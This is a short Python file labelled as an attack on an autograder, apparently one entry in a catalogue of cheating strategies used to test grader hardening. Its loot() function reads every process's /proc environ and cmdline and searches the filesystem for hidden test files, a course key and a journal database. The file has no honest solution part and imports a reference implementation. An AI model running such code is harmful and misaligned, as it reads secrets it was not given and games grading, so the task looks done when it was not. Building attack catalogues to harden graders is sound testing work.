"""Attack: learn the seed and the tests from the machine

Catalogue: R20, H6, H13, H16
Strategy: reads environment, command lines and every readable file of the grader for tests, seeds and keys; works only if it finds one
Honest part: nothing
"""

import glob
import os


def loot():
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        if b"autograder" in data or b"runner_pid" in data:
            return data
    for pattern in ("/**/test_programs.py", "/**/.course/key", "/**/journal.sqlite"):
        for path in glob.glob(pattern, recursive=True):
            return open(path, "rb").read()
    return None


if loot() is None:
    raise RuntimeError("nothing to steal")

from reference_impl.memory import BlockAllocator  # noqa: E402,F401
